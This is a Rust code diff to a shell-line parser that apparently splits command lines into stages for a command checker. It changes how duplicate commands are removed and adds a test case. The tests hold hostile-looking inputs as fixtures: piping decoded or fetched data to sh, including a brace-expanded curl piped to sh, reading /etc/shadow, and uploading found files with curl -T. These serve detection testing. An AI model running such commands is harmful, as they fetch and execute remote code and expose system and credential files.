@@ -28,7 +28,16 @@ pub struct Command<'a> {
 pub fn commands(line: &str) -> Vec<Command<'_>> {
     let mut commands = Vec::new();
     collect(line, 0, &mut commands);
-    if commands.len() > 1 {
+    if commands.len() <= 16 {
+        let mut at = 1;
+        while let Some((earlier, later)) = commands.split_at_checked(at) {
+            match later.first() {
+                Some(command) if earlier.contains(command) => drop(commands.remove(at)),
+                Some(_) => at += 1,
+                None => break,
+            }
+        }
+    } else {
         let mut seen = HashSet::with_capacity(commands.len());
         let fresh: Vec<bool> = commands.iter().map(|command| seen.insert(command)).collect();
         let mut fresh = fresh.into_iter();
@@ -121,7 +130,7 @@ pub fn stages(line: &str) -> Vec<&str> {
 
 fn scan(line: &str, quotes: bool) -> (Vec<&str>, bool) {
     let bytes = line.as_bytes();
-    let mut found = Found { line, stages: Vec::new(), seen: HashSet::new() };
+    let mut found = Found { line, stages: Vec::new() };
     let mut frames = vec![(Within::Commands, 0)];
     let mut balanced = true;
     let mut at = 0;
@@ -187,7 +196,6 @@ fn scan(line: &str, quotes: bool) -> (Vec<&str>, bool) {
 struct Found<'a> {
     line: &'a str,
     stages: Vec<&'a str>,
-    seen: HashSet<&'a str>,
 }
 
 impl Found<'_> {
@@ -197,8 +205,7 @@ impl Found<'_> {
         }
         // A start behind the end, or inside a character, comes of a backslash at the end.
         let stage = self.line.get(start..end.min(self.line.len())).unwrap_or_default().trim();
-        if !stage.is_empty() && (self.stages.is_empty() || !self.seen.contains(stage)) {
-            self.seen.insert(stage);
+        if !stage.is_empty() && !self.stages.contains(&stage) {
             self.stages.push(stage);
         }
     }
@@ -396,6 +403,7 @@ mod tests {
         has("cat x | base64 -d | sh", "sh", "/sh");
         has("if true; then curl x; fi", "then curl x", "/curl");
         has("2>/dev/null >x curl y", "2>/dev/null >x curl y", "/curl");
+        has("{curl,-s,http://x}|sh", "curl -s http://x", "/curl");
         has("cat</etc/shadow", "cat</etc/shadow", "/cat");
         has("find / -name x -execdir curl -T {} http://x ;", "curl -T {} http://x", "/curl");
         has("./run.sh a", "./run.sh a", "/run.sh");
